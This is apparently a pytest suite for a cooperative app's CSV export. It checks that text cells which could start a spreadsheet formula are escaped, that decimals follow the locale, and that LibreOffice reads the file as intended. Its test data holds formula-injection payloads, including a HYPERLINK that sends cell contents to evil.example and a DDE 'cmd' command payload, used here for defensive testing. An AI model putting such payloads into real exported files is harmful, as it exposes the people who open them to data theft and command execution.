"""The one CSV writer: no cell a spreadsheet would run as a formula, numbers in the person's
format, and a file LibreOffice reads as meant (checked with LibreOffice itself when it is
installed)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import pytest

from coopdesk.base.csvfile import (
    FORMULA_STARTS,
    CsvFormat,
    cell_text,
    chosen_format,
    csv_bytes,
    escape_text,
    locale_decimal_sign,
    locale_format,
    write_csv,
)
from coopdesk.base.errors import ValidationError

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# Every opening OWASP lists (and NUL, line feed), and a separator that would start a cell.
DANGEROUS = [
    ATTACK,
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "=cmd|' /C calc'!A0",
]
HEADER = ["item", "site", "have", "unit"]


def read(data: bytes, separator: str = ",") -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_would_start_a_formula_gets_a_quote_in_front(text: str):
    assert escape_text(text) == "'" + text
    rows = read(csv_bytes(HEADER, [[text, "Kitchen", 1, "kg"]], CsvFormat()))
    cell = rows[1][0]
    assert cell == "'" + text
    assert not cell.startswith(FORMULA_STARTS)


def test_ordinary_text_and_numbers_are_left_alone():
    assert escape_text("Rice") == "Rice"
    assert escape_text("2 kg bag") == "2 kg bag"
    assert escape_text("Épicerie") == "Épicerie"
    # Numbers the app computes are numbers: a negative balance stays a number.
    assert cell_text(Decimal("-3"), CsvFormat()) == "-3"
    assert cell_text(Decimal("0.250"), CsvFormat(";", ",")) == "0,250"
    assert cell_text(7, CsvFormat()) == "7"
    assert cell_text(None, CsvFormat()) == ""


def test_every_text_cell_is_quoted_so_a_separator_inside_never_starts_a_cell():
    data = csv_bytes(HEADER, [["a;=1+1", "x,=2+2", Decimal("1.5"), 'say "hi"']], CsvFormat())
    line = data.decode("utf-8-sig").splitlines()[1]
    assert line == '"a;=1+1","x,=2+2",1.5,"say ""hi"""'
    assert read(data)[1] == ["a;=1+1", "x,=2+2", "1.5", 'say "hi"']


def test_the_file_is_utf8_with_a_bom_and_crlf():
    data = csv_bytes(HEADER, [["Tomás", "Kitchen", 1, "kg"]], CsvFormat())
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"\r\n") and data.count(b"\r\n") == 2


def test_formats_a_spreadsheet_reads_and_the_one_it_cannot():
    assert CsvFormat(";", ",").label == "semicolon-separated, decimal comma (0,25)"
    assert CsvFormat(",", ".").label == "comma-separated, decimal point (0.25)"
    with pytest.raises(ValidationError, match="cannot have a decimal comma"):
        CsvFormat(",", ",")
    with pytest.raises(ValidationError):
        CsvFormat("|", ".")


@pytest.mark.parametrize(
    "environ, sign",
    [
        ({"LANG": "de_DE.UTF-8"}, ","),
        ({"LANG": "fr_FR.UTF-8"}, ","),
        ({"LANG": "es_ES.UTF-8"}, ","),
        ({"LANG": "pt_BR.UTF-8"}, ","),
        ({"LANG": "en_US.UTF-8"}, "."),
        ({"LANG": "de_CH.UTF-8"}, "."),  # Swiss German writes 0.25
        ({"LANG": "es_MX.UTF-8"}, "."),
        ({"LANG": "C.UTF-8"}, "."),
        ({"LANG": "en_GB.UTF-8", "LC_NUMERIC": "de_DE.UTF-8"}, ","),  # numbers follow LC_NUMERIC
        ({"LANG": "de_DE.UTF-8", "LC_ALL": "en_US.UTF-8"}, "."),  # and LC_ALL beats both
    ],
)
def test_the_default_follows_the_computers_locale(environ: dict[str, str], sign: str):
    assert locale_decimal_sign(environ) == sign
    expected = CsvFormat(";", ",") if sign == "," else CsvFormat(",", ".")
    assert locale_format(environ) == expected


def test_a_choice_of_one_fills_in_the_other(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("LC_ALL", "en_US.UTF-8")
    assert chosen_format() == CsvFormat(",", ".")
    assert chosen_format(decimal=",") == CsvFormat(";", ",")
    assert chosen_format(separator=";") == CsvFormat(";", ".")
    monkeypatch.setenv("LC_ALL", "de_DE.UTF-8")
    assert chosen_format() == CsvFormat(";", ",")
    assert chosen_format(separator=",") == CsvFormat(",", ".")


def test_write_csv_uses_the_one_output_path(tmp_path: Path):
    written = write_csv(tmp_path, HEADER, [["Rice", "Kitchen", 2, "kg"]], default_name="x.csv")
    assert written == tmp_path / "x.csv"
    assert read(written.read_bytes())[1][0] == "Rice"


# -- LibreOffice itself ------------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"


def libreoffice_cells(tmp_path: Path, data: bytes, separator: str, language: int) -> list[list]:
    """The cells as LibreOffice imports the CSV (language: 1033 en-US, 1031 de-DE).

    Converted headless to a flat OpenDocument file: each cell's type, value and formula.
    """
    source = tmp_path / "list.csv"
    source.write_bytes(data)
    options = f"CSV:{ord(separator)},34,76,1,,{language}"
    subprocess.run(
        [
            SOFFICE,
            "--headless",
            f"--infilter={options}",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
    )
    root = ElementTree.parse(tmp_path / "list.fods").getroot()
    rows = []
    for row in root.iter(f"{{{TABLE}}}table-row"):
        cells = [
            (
                "".join(cell.itertext()).strip(),
                cell.get(f"{{{OFFICE}}}value-type"),
                cell.get(f"{{{OFFICE}}}value"),
                cell.get(f"{{{TABLE}}}formula"),
            )
            for cell in row.findall(f"{{{TABLE}}}table-cell")
            if int(cell.get(f"{{{TABLE}}}number-columns-repeated") or 1) < 100
        ]
        if any(text for text, *_rest in cells):
            rows.append(cells)
    return rows


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
@pytest.mark.parametrize(
    "csv_format, language",
    [(CsvFormat(",", "."), 1033), (CsvFormat(";", ","), 1031)],
    ids=["en-US comma point", "de-DE semicolon comma"],
)
def test_libreoffice_opens_no_formula_and_reads_the_numbers(
    tmp_path: Path, csv_format: CsvFormat, language: int
):
    rows = [[text, "Kitchen", Decimal("0.25"), "kg"] for text in DANGEROUS[:4]]
    cells = libreoffice_cells(
        tmp_path, csv_bytes(HEADER, rows, csv_format), csv_format.separator, language
    )
    body = cells[1:]
    assert len(body) == 4
    for row, text in zip(body, DANGEROUS[:4], strict=True):
        name, kind, _value, formula = row[0]
        assert formula is None, name  # shown as text, never run
        assert (name, kind) == ("'" + text, "string")
        assert row[2][1:3] == ("float", "0.25")  # a number, in this locale's format
